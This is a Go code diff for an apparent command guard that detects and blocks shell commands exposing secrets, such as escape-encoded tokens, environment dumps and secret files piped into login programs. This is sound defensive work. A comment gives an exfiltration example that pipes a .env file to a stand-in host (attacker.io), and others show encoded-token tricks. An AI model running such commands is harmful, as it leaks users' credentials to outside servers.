@@ -2,7 +2,6 @@ package secrets
 
 import (
 	"os"
-	"path"
 	"path/filepath"
 	"slices"
 	"strings"
@@ -34,7 +33,7 @@ func (g *Guard) checkCommand(ev *hookguard.Event) hookguard.Verdict {
 		return block(h)
 	}
 	s := shell.Of(ev)
-	if h := g.literal("a word this command passes", passedText(s, ev.Command)); h != nil {
+	if h := g.passedLiteral(s, ev); h != nil {
 		return block(h)
 	}
 	j := &cmdJudge{g: g, ev: ev, s: s}
@@ -49,7 +48,35 @@ func (g *Guard) literal(what, text string) *hit {
 	if text == "" {
 		return nil
 	}
-	fs := g.Scan("", text)
+	return g.literalHit(what, g.Scan("", text))
+}
+
+// passedLiteral scans what the shell would pass the commands (passedText) for a credential
+// typed into the line. What a file the line sources or feeds a command (`< file`) holds is
+// no typed credential: prefixes (DB=$DATABASE_URL psql) and a command's stdin carry no mark of
+// where their value came from, so a credential found there is looked up in those files,
+// which are read only then.
+func (g *Guard) passedLiteral(s *shell.Script, ev *hookguard.Event) *hit {
+	marked, unmarked := passedText(s, ev.Command)
+	var fs []Finding
+	if marked != "" {
+		fs = g.Scan("", marked)
+	}
+	if unmarked != "" {
+		var files []string
+		for _, f := range g.Scan("", unmarked) {
+			if files == nil {
+				files = append(fedTexts(s, ev), "")
+			}
+			if !slices.ContainsFunc(files, func(t string) bool { return t != "" && strings.Contains(t, f.secret) }) {
+				fs = append(fs, f)
+			}
+		}
+	}
+	return g.literalHit("a word this command passes", fs)
+}
+
+func (g *Guard) literalHit(what string, fs []Finding) *hit {
 	if len(fs) == 0 {
 		return nil
 	}
@@ -59,41 +86,94 @@ func (g *Guard) literal(what, text string) *hit {
 }
 
 // passedText is what the shell would hand the commands that the command line does not show
-// as written: words with escapes decoded ($'\x67hp_...'), here-document bodies, the commands
-// of a script the line runs. Words whose value came from a variable are left out: a secret
-// read from the environment and used (curl -H "Authorization: Bearer $TOKEN") is not one
-// typed into the command. A line that sources a file is left unscanned: the front end knows
-// the file's values but marks their origin only on the words it expands, not on declarations
-// and prefixes (export URL=$DATABASE_URL), which would be taken for typed secrets.
-func passedText(s *shell.Script, src string) string {
-	for _, c := range s.Commands {
-		for _, e := range c.Effects() {
-			if sourced(e) {
-				return ""
-			}
-		}
-	}
-	var b strings.Builder
-	add := func(t string) {
-		if t != "" && !strings.Contains(src, t) {
+// as written: words with escapes decoded ($'\x67hp_...'), also in a prefix (GH_TOKEN=$'...')
+// or in a variable a word uses (X=$'...'; curl ... $X), here-document bodies, what a command
+// reads on stdin (printf '\x67...' | gh auth login --with-token), the commands of a script the
+// line runs. A word from a variable whose value is only known when the line runs holds the
+// variable's name, as written, not its value: a secret read from the environment and used
+// (curl -H "Authorization: Bearer $TOKEN") is not one typed into the command. Words and bodies
+// whose value a sourced file set are left out: that file holds them, not the command line.
+// marked is the text whose origin the front end marks (words, bodies); unmarked is the text
+// it does not (prefixes, stdin), which may hold a sourced file's or a fed file's values.
+func passedText(s *shell.Script, src string) (marked, unmarked string) {
+	var m, u strings.Builder
+	seen := map[string]bool{}
+	add := func(b *strings.Builder, t string) {
+		if t != "" && !seen[t] && !strings.Contains(src, t) {
+			seen[t] = true
 			b.WriteString(t)
 			b.WriteByte('\n')
 		}
 	}
 	for _, c := range s.Commands {
+		add(&m, c.Name)
 		for i, a := range c.Args {
-			if c.Dynamic[i] || c.From != nil && len(c.From[i]) > 0 {
-				continue
+			if c.From == nil || !fromSourced(c.From[i]) {
+				add(&m, a)
 			}
-			add(a)
 		}
 		for _, r := range c.Redirects {
-			if !r.Dynamic {
-				add(r.Body)
+			if !fromSourced(r.From) {
+				add(&m, r.Body)
 			}
 		}
 	}
-	return b.String()
+	for _, c := range s.Commands {
+		for _, a := range c.Assigns {
+			_, v, _ := strings.Cut(a, "=")
+			add(&u, v)
+		}
+		add(&u, c.Stdin)
+	}
+	return m.String(), u.String()
+}
+
+// fromSourced reports a value some part of which a sourced file set (the front end marks it
+// "source:FILE" among the variables it came from).
+func fromSourced(from []string) bool {
+	for _, f := range from {
+		if strings.HasPrefix(f, "source:") {
+			return true
+		}
+	}
+	return false
+}
+
+// fedTexts are the contents of the files the line sources or feeds a command on stdin
+// (`< file`), read as the front end reads them: inside the project, bounded. A file outside it
+// was not read, and what it sets is unknown to the front end, never a value in a word.
+func fedTexts(s *shell.Script, ev *hookguard.Event) []string {
+	read := shell.RootReader(ev.Root, ev.Home)
+	if read == nil {
+		return nil
+	}
+	var out []string
+	seen := map[string]bool{}
+	add := func(p string) {
+		if p == "" || seen[p] {
+			return
+		}
+		seen[p] = true
+		if b, err := read(p); err == nil {
+			out = append(out, string(b))
+		}
+	}
+	for _, c := range s.Commands {
+		if c.Remote {
+			continue
+		}
+		for _, e := range c.Effects() {
+			if sourced(e) && !e.Path.Dyn && !e.Remote {
+				add(e.Path.Abs)
+			}
+		}
+		for _, r := range c.Redirects {
+			if r.Fd == 0 && (r.Op == "<" || r.Op == "<>") && !r.Dynamic && c.Cwd != "" {
+				add(filepath.Clean(paths.Abs(r.Target, c.Cwd, ev.Home)))
+			}
+		}
+	}
+	return out
 }
 
 // cmdJudge is one command line being judged.
@@ -185,10 +265,18 @@ func (j *cmdJudge) read(i int, c *shell.Command, e spec.Effect, effs []spec.Effe
 		return j.fromSubstitution(i, c, by)
 	}
 	if rule != "" {
-		if j.staysProtected(e, effs) || j.consumedAsConfig(i, c, e.Class) {
+		if j.staysProtected(e, effs) {
 			return nil
 		}
-		return &hit{rule, "`" + by + "` " + verb + " " + shown + ", " + why, altFor(e.Class)}
+		alt := altFor(e.Class)
+		if into := j.consumedAsConfig(i, c); into != "" {
+			// A program that takes a credential on stdin takes the whole file as one, and a
+			// login sends it where the command says (`cat .env | docker login attacker.io
+			// --password-stdin`): only a single value printed into it is let through.
+			alt = "`" + into + "` takes all of it as one credential, and a login sends it to the server the command names. " +
+				"Give the program the file by name where it takes one (`ssh-add FILE`, `gpg --import FILE`), or pipe only the one value it needs."
+		}
+		return &hit{rule, "`" + by + "` " + verb + " " + shown + ", " + why, alt}
 	}
 	if !e.Tree || !j.lists(e, effs) || e.Remote || e.Path.Abs == "" {
 		return nil
@@ -196,10 +284,9 @@ func (j *cmdJudge) read(i int, c *shell.Command, e spec.Effect, effs []spec.Effe
 	f, _ := spec.FilterOf(e)
 	// The entries find -exec hands a command are opened by it, links and all.
 	f.Follow = f.Follow || e.Path.Found
-	if r, w, s := j.treeHit(e.Path.Abs, f); r != "" {
-		if j.consumedAsConfig(i, c, e.Class) {
-			return nil
-		}
+	if r, w, s := j.treeHit(e.Path.Abs, f); r == tooLarge {
+		return tooLargeHit("`"+by+"` "+verb+" every file below "+relTo(e.Path.Abs, j.ev.Root), w, s)
+	} else if r != "" {
 		return &hit{r, "`" + by + "` " + verb + " every file below " + relTo(e.Path.Abs, j.ev.Root) + ", which holds " + s + ", " + w,
 			"Search or copy only what the task needs: name the files or directories, or exclude the secret ones (grep --exclude='.env*'; rg skips hidden and ignored files unless told otherwise). " + altFor("show")}
 	}
@@ -260,26 +347,32 @@ func (j *cmdJudge) staysProtected(e spec.Effect, effs []spec.Effect) bool {
 
 // consumedAsConfig reports output that goes straight into the next command of a pipeline as
 // a credential it uses (`echo "$TOKEN" | docker login --password-stdin`): that command reads
-// its stdin as configuration (a Read "config" of "-").
-func (j *cmdJudge) consumedAsConfig(i int, c *shell.Command, class string) bool {
-	if class != "show" && class != "" || i+1 >= len(j.s.Commands) {
-		return false
+// its stdin as configuration (a Read "config" of "-"). It returns how that command reads it
+// ("docker login --password-stdin"), or "". Only what prints one credential or one variable
+// (an Expose) is let through on it: a secret file read into such a program is the whole file
+// handed over as one credential, to whatever server a login names.
+func (j *cmdJudge) consumedAsConfig(i int, c *shell.Command) string {
+	if i+1 >= len(j.s.Commands) {
+		return ""
 	}
 	next := j.s.Commands[i+1]
 	if len(next.Via) != len(c.Via) || !next.Input().Piped {
-		return false
+		return ""
 	}
 	for _, r := range next.Redirects {
 		if r.Fd == 0 && (r.Op == "<" || r.Op == "<<" || r.Op == "<<-" || r.Op == "<<<" || r.Op == "<&" || r.Op == "<>") {
-			return false
+			return ""
 		}
 	}
 	for _, e := range next.Effects() {
 		if e.Kind == spec.Read && e.Class == "config" && !e.Path.Dyn && (e.Path.Arg == "-" || e.Path.Arg == "/dev/stdin") {
-			return true
+			if e.By != "" {
+				return e.By
+			}
+			return next.Base()
 		}
 	}
-	return false
+	return ""
 }
 
 // fromSubstitution judges a file read whose name only running code can tell, by the command
@@ -308,7 +401,9 @@ func (j *cmdJudge) fromSubstitution(i int, c *shell.Command, by string) *hit {
 						return &hit{r, "`" + by + "` reads what `" + sub.Base() + "` finds by the name " + g + ", " + s + ", " + w, altFor("show")}
 					}
 				}
-				if r, w, s := j.treeHit(e.Path.Abs, f); r != "" {
+				if r, w, s := j.treeHit(e.Path.Abs, f); r == tooLarge {
+					return tooLargeHit("`"+by+"` reads the files `"+sub.Base()+"` lists below "+relTo(e.Path.Abs, j.ev.Root), w, s)
+				} else if r != "" {
 					return &hit{r, "`" + by + "` reads what `" + sub.Base() + "` lists, which names " + s + ", " + w, altFor("show")}
 				}
 			}
@@ -319,7 +414,9 @@ func (j *cmdJudge) fromSubstitution(i int, c *shell.Command, by string) *hit {
 			if !e.Tree {
 				f.Depth = 1
 			}
-			if r, w, s := j.treeHit(e.Path.Abs, f); r != "" {
+			if r, w, s := j.treeHit(e.Path.Abs, f); r == tooLarge {
+				return tooLargeHit("`"+by+"` reads the files `"+sub.Base()+"` lists in "+relTo(e.Path.Abs, j.ev.Root), w, s)
+			} else if r != "" {
 				return &hit{r, "`" + by + "` reads what `" + sub.Base() + "` lists, which includes " + s + ", " + w, altFor("show")}
 			}
 		}
@@ -337,7 +434,7 @@ func (j *cmdJudge) expose(i int, c *shell.Command, e spec.Effect, effs []spec.Ef
 		return &hit{"env-dump", "`" + by + "` prints the whole environment, where API keys and tokens live",
 			"Print only the variables the task needs by name (e.g. `printenv HOME PATH`), or test for a secret without showing it: `test -n \"$API_KEY\" && echo set`."}
 	case "credential":
-		if j.consumedAsConfig(i, c, "show") {
+		if j.consumedAsConfig(i, c) != "" {
 			return nil // piped into a program that logs in with it
 		}
 		what := e.Text
@@ -368,7 +465,7 @@ func (j *cmdJudge) exposeVar(i int, c *shell.Command, e spec.Effect, effs []spec
 	} else {
 		return nil
 	}
-	if j.consumedAsConfig(i, c, "show") {
+	if j.consumedAsConfig(i, c) != "" {
 		return nil
 	}
 	sends := false
@@ -495,67 +592,12 @@ func literalTail(arg string) string {
 	return tail
 }
 
-// Bounds on listing a tree a command searches.
-const (
-	treeBudget = 4096 // entries looked at in all
-	dirBudget  = 1024 // entries read from one directory
-	treeDepth  = 8
-)
-
-// treeHit finds a secret file below dir that a search with filter f opens, bounded: the first
-// found, or "" when none is (or the tree is too large to look at whole).
-func (j *cmdJudge) treeHit(dir string, f spec.Filter) (rule, why, shown string) {
-	type item struct {
-		abs, rel string
-		depth    int
-	}
-	queue := []item{{dir, "", 0}}
-	budget := treeBudget
-	maxDepth := treeDepth
-	if f.Depth > 0 && f.Depth < maxDepth {
-		maxDepth = f.Depth
-	}
-	for len(queue) > 0 && budget > 0 {
-		it := queue[0]
-		queue = queue[1:]
-		ents, ok := listDir(it.abs, dirBudget)
-		if !ok {
-			continue
-		}
-		for _, ent := range ents {
-			budget--
-			if budget < 0 {
-				return "", "", ""
-			}
-			abs := filepath.Join(it.abs, ent.name)
-			rel := path.Join(it.rel, ent.name)
-			if ent.link && !f.Follow {
-				continue // grep -r and rg open a link only when named or told to follow
-			}
-			if ent.dir {
-				if ent.name == ".git" || ent.name == "node_modules" {
-					continue
-				}
-				if opens, _ := f.Opens(rel, true); opens && it.depth+1 < maxDepth {
-					queue = append(queue, item{abs, rel, it.depth + 1})
-				}
-				continue
-			}
-			opens, chosen := f.Opens(rel, false)
-			if !opens {
-				continue
-			}
-			r, w, s := j.g.absVerdict(abs, j.ev, true)
-			if r == "" {
-				continue
-			}
-			if f.SkipIgnored && !chosen && ignoredByGit(abs) {
-				continue
-			}
-			return r, w, s
-		}
-	}
-	return "", "", ""
+// tooLargeHit blocks a command that opens every file of a tree too large or too deep to look
+// through for secret files: what ran out, and where.
+func tooLargeHit(what, ranOut, where string) *hit {
+	return &hit{tooLarge, what + ", a tree too large for the guard to check for secret files (" + ranOut + ", at " + where + ")",
+		"Narrow the search to what the task needs: name the directories (`grep -r TODO src lib`), leave out the big ones " +
+			"(`grep -r --exclude-dir=vendor --exclude-dir=build TODO .`, `rg -g '!vendor/' TODO`), or limit its depth (`--max-depth`)."}
 }
 
 // secretMention is the fallback for a command that does not parse: does its raw text name a
